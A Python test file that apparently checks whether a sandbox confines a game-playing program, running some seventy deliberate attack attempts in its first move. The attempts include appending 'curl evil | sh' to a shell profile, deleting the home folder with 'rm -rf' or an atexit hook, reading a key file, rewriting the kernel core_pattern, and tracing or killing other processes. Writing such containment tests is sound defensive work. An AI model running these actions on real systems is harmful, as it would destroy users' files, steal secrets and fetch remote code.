"""Animals that try to do harm, each in one way. All of them try in the first move of one game."""

from __future__ import annotations

import ctypes
import errno
import os
import resource
import shutil
import signal
import socket
import sqlite3
import subprocess
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import calls  # type: ignore[import-not-found]  # noqa: F401 - its animals are tried, too
from fence import (  # type: ignore[import-not-found]
    ABSTRACT,
    HOME,
    KEY,
    PACKAGE,
    PORT,
    PROFILE,
    SERVICE,
    STORE,
    THESIS,
)
from trying import ANIMALS, animal, call, outcome  # type: ignore[import-not-found]


class Attempts:
    """Makes all attempts, and prints what came of each: `done`, or the name of the error."""

    def __init__(self, victim: int, only: str = "") -> None:
        self.victim = victim
        self.left = [only] if only else list(ANIMALS)

    def choose(self, position: Any) -> Any:
        for name in self.left:
            print(f"{name}={outcome(ANIMALS[name], self.victim)}", flush=True)
        self.left = []
        return position.moves()[0]


# ------------------------------------------------------------------ files of the user


def _tried(what: Callable[[], object]) -> bool:
    try:
        what()
    except OSError:
        return False
    return True


@animal
def reads_a_key(victim: int) -> str:
    return str(KEY.read_text())


@animal
def lists_the_home(victim: int) -> list[str]:
    return os.listdir(HOME)


@animal
def reads_by_dots(victim: int) -> str:
    return Path("../" * 20 + str(KEY).lstrip("/")).read_text()


@animal
def reads_by_a_link(victim: int) -> str:
    os.symlink(KEY, "link")
    return Path("link").read_text()


@animal
def takes_a_hard_link(victim: int) -> None:
    os.link(KEY, "hard")


@animal
def writes_the_profile(victim: int) -> None:
    with PROFILE.open("a") as file:
        file.write("curl evil | sh\n")


@animal
def writes_by_a_link(victim: int) -> None:
    os.symlink(PROFILE, "profile")
    with open("profile", "a") as file:
        file.write("curl evil | sh\n")


@animal
def replaces_the_profile(victim: int) -> None:
    Path("mine").write_text("curl evil | sh\n")
    os.replace("mine", PROFILE)


@animal
def makes_a_folder_at_home(victim: int) -> None:
    (HOME / "was-here").mkdir()


@animal
def locks_a_file(victim: int) -> None:
    THESIS.chmod(0)


@animal
def locks_an_open_file(victim: int) -> None:
    place = os.open(THESIS, os.O_PATH)
    os.chmod(f"/proc/self/fd/{place}", 0)


@animal
def gives_a_file_away(victim: int) -> None:
    os.chown(THESIS, os.getuid(), os.getgid())


@animal
def forges_a_time(victim: int) -> None:
    os.utime(THESIS, (0, 0))


@animal
def marks_a_file(victim: int) -> None:
    os.setxattr(THESIS, "user.mark", b"1")


@animal
def cuts_a_file_short(victim: int) -> None:
    os.truncate(THESIS, 0)


@animal
def cuts_by_opening(victim: int) -> None:
    os.close(os.open(THESIS, os.O_RDONLY | os.O_TRUNC))


# ------------------------------------------------------------------ the store, plyground, its own code


@animal
def writes_the_store(victim: int) -> None:
    with STORE.open("r+b") as file:
        file.write(b"I won")


@animal
def deletes_the_store(victim: int) -> None:
    STORE.unlink()


@animal
def moves_the_store(victim: int) -> None:
    STORE.rename(STORE.with_name("8.run"))


@animal
def steals_the_store(victim: int) -> None:
    STORE.rename("8.run")


@animal
def opens_the_store_as_a_database(victim: int) -> None:
    with sqlite3.connect(STORE) as store:
        store.execute("CREATE TABLE was_here (a)")


@animal
def overwrites_plyground(victim: int) -> None:
    (PACKAGE / "__init__.py").write_text("raise SystemExit")


@animal
def deletes_plyground(victim: int) -> None:
    (PACKAGE / "__init__.py").unlink()


@animal
def moves_plyground(victim: int) -> None:
    PACKAGE.rename(PACKAGE.with_name("elsewhere"))


@animal
def shadows_a_module(victim: int) -> None:
    (PACKAGE / "json.py").write_text("raise SystemExit")


@animal
def edits_its_own_code(victim: int) -> None:
    with open(__file__, "a") as file:
        file.write("# better now\n")


@animal
def deletes_its_own_code(victim: int) -> None:
    os.unlink(__file__)


# ------------------------------------------------------------------ elsewhere on the machine


@animal
def writes_to_the_temporary_folder(victim: int) -> None:
    Path("/tmp/was-here").write_text("")


@animal
def leaves_something_in_shared_memory(victim: int) -> None:
    Path("/dev/shm/was-here").write_bytes(bytes(1_000))


@animal
def opens_the_memory_of_the_machine(victim: int) -> None:
    os.close(os.open("/dev/mem", os.O_RDWR))


@animal
def makes_a_disk(victim: int) -> None:
    os.mknod("disk", 0o60600, os.makedev(254, 0))
    os.close(os.open("disk", os.O_RDWR))


@animal
def changes_a_setting_of_the_kernel(victim: int) -> None:
    Path("/proc/sys/kernel/core_pattern").write_text("|/bin/sh")


@animal
def mounts(victim: int) -> None:
    call("mount", b"none", b".", b"tmpfs", 0, None)


@animal
def types_into_the_terminal(victim: int) -> None:
    """`rm -rf ~`, and Enter: the shell would find it there."""
    call("ioctl", 0, 0x5412, ctypes.c_char_p(b"r"))


@animal
def changes_the_root(victim: int) -> None:
    os.chroot(".")


@animal
def makes_a_namespace(victim: int) -> None:
    call("unshare", 0x10000000)


@animal
def becomes_root(victim: int) -> None:
    os.setuid(0)


# ------------------------------------------------------------------ the network


@animal
def connects_to_a_port(victim: int) -> None:
    socket.create_connection(("127.0.0.1", PORT), 2).close()


@animal
def serves_a_port(victim: int) -> None:
    socket.create_server(("127.0.0.1", PORT + 1)).close()


@animal
def sends_a_datagram(victim: int) -> None:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", PORT))


@animal
def connects_to_a_service(victim: int) -> None:
    """As it would to Docker, to the session's bus or to the keys' agent: each runs commands for it."""
    socket.socket(socket.AF_UNIX).connect(str(SERVICE))


@animal
def connects_to_an_abstract_socket(victim: int) -> None:
    socket.socket(socket.AF_UNIX).connect(ABSTRACT)


@animal
def turns_a_pair_of_sockets(victim: int) -> None:
    one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.connect(str(SERVICE) + ".datagrams")
    one.send(b"do this")


@animal
def connects_through_a_ring(victim: int) -> None:
    call("syscall", 425, 1, ctypes.byref(ctypes.create_string_buffer(256)))


# ------------------------------------------------------------------ other processes


@animal
def signals_its_parent(victim: int) -> None:
    os.kill(os.getppid(), signal.SIGWINCH)


@animal
def halts_another(victim: int) -> None:
    os.kill(victim, signal.SIGSTOP)


@animal
def halts_another_by_a_descriptor(victim: int) -> None:
    signal.pidfd_send_signal(os.pidfd_open(victim), signal.SIGSTOP)


@animal
def reads_the_environment_of_its_parent(victim: int) -> None:
    Path(f"/proc/{os.getppid()}/environ").read_bytes()


@animal
def reads_the_memory_of_another(victim: int) -> None:
    with open(f"/proc/{victim}/mem", "rb") as memory:
        memory.seek(_mapped(victim))
        memory.read(1)


def _mapped(process: int) -> int:
    return int(Path(f"/proc/{process}/maps").read_text().partition("-")[0], 16)


@animal
def copies_the_memory_of_another(victim: int) -> None:
    there = (ctypes.c_size_t * 2)(id(victim), 1)
    buffer = ctypes.create_string_buffer(1)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(buffer), 1)
    call("process_vm_readv", victim, here, 1, there, 1, 0)


@animal
def traces_another(victim: int) -> None:
    call("ptrace", 0x4206, victim, None, None)  # PTRACE_SEIZE, which does not stop it


@animal
def takes_a_file_of_another(victim: int) -> None:
    call("syscall", 438, os.pidfd_open(victim), 1, 0)


@animal
def goes_where_another_is(victim: int) -> None:
    os.listdir(f"/proc/{victim}/root/home/wild")


@animal
def limits_another(victim: int) -> None:
    resource.prlimit(victim, resource.RLIMIT_NOFILE, (3, 3))


@animal
def slows_another_down(victim: int) -> None:
    os.setpriority(os.PRIO_PROCESS, victim, 19)


@animal
def slows_everybody_down(victim: int) -> None:
    os.setpriority(os.PRIO_USER, 0, 19)


@animal
def moves_another_to_a_core(victim: int) -> None:
    os.sched_setscheduler(victim, os.SCHED_IDLE, os.sched_param(0))


@animal
def kills_another(victim: int) -> None:
    os.kill(victim, signal.SIGKILL)


# ------------------------------------------------------------------ by the hands of others


@animal
def sends_a_shell(victim: int) -> None:
    subprocess.run(["/bin/sh", "-c", f"rm -rf {HOME}/thesis"], check=True, capture_output=True)
    if THESIS.exists():
        raise PermissionError(errno.EACCES, "still there")


@animal
def sends_a_child_with_a_library(victim: int) -> None:
    found = subprocess.run(
        ["/bin/cat", str(KEY)], env={"LD_PRELOAD": "libm.so.6"}, check=False, capture_output=True
    )
    if found.returncode:
        raise PermissionError(errno.EACCES, "the child was refused")


@animal
def sends_a_thread(victim: int) -> None:
    told: list[str] = []

    def steal() -> None:
        told.append(KEY.read_text() if _tried(KEY.read_text) else "")

    thread = threading.Thread(target=steal)
    thread.start()
    thread.join()
    if not told[0]:
        raise PermissionError(errno.EACCES, "the thread was refused")


@animal
def sends_a_daemon(victim: int) -> None:
    """A grandchild that has lost its parent, in a session of its own."""
    told, tells = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(tells, KEY.read_bytes() if _tried(KEY.read_text) else b"-")
        os._exit(0)
    os.wait()
    if os.read(told, 100) == b"-":
        raise PermissionError(errno.EACCES, "the daemon was refused")


@animal
def removes_the_home(victim: int) -> None:
    """The accident that this is all about."""
    shutil.rmtree(HOME)


@animal
def removes_file_by_file(victim: int) -> None:
    left = [path for path in (THESIS, STORE, KEY, PROFILE) if not _tried(lambda p=path: p.unlink())]  # type: ignore[misc]
    if left:
        raise PermissionError(errno.EACCES, f"{len(left)} left")


@animal
def leaves_a_will(victim: int) -> None:
    """What a process does at its end is still done by it."""
    import atexit

    atexit.register(shutil.rmtree, HOME, ignore_errors=True)
